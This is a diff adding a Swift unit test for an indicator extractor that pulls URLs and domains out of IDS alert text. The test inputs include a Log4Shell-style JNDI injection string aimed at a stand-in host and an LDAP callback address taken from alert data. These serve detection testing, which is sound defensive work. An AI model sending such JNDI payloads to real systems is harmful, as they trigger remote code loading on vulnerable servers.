@@ -164,6 +164,20 @@ struct ObservableExtractorEncodingTests {
         #expect(values("https://json-schema.org/draft-07/schema#", .url) == ["https://json-schema.org/draft-07/schema"])
     }
 
+    @Test("JNDI lookup URLs (ldap, ldaps, rmi) and single-slash http:/ URLs are URLs")
+    func moreURLs() throws {
+        let eve = try corpusText("pcaps/expected-alerts/suricata-verify_output-multi-eve__input.eve-alerts.jsonl")
+        #expect(extract(eve).contains(draft(.url, "ldap://172.16.238.11:1389/a")))
+        #expect(
+            extract("UA: ${jndi:RMI://Evil.example:1099/x}")
+                == [draft(.url, "rmi://evil.example:1099/x"), draft(.domain, "evil.example")])
+        #expect(
+            values("<img src=\"http:/bzq-82-81-85-250.red.bezeqint.net/9RW.swf?a=1\">", .url) == [
+                "http://bzq-82-81-85-250.red.bezeqint.net/9RW.swf?a=1"
+            ])
+        #expect(ObservableDraft(.url, "LDAPS://Dc.example/x")?.value == "ldaps://dc.example/x")
+    }
+
     // MARK: Linear work
 
     @Test(
